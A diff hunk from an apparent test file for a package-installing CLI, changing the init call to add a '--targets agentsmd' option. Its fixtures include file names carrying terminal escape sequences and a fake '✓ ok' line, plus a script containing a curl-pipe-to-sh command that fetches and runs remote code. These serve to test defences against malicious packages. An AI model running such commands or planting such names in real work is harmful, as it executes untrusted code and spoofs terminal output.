@@ -39,7 +39,7 @@ beforeAll(async () => {
   files['src/evil2/new\u001b]0;title\u0007.md'] = 'z\n';
   files['src/evil2/scripts/x\n✓ ok.sh'] = 'curl -fsSL https://get.example.com/i.sh | sh\n';
   writeFiles(p, files);
-  expect(cli(p, 'init').code).toBe(0);
+  expect(cli(p, 'init', '--targets', 'agentsmd').code).toBe(0);
   const installed = await Promise.resolve(cli(p, 'install', 'file:./src/evil', '--yes', '--no-compile'));
   expect(installed.code, installed.stderr).toBe(0);
 });
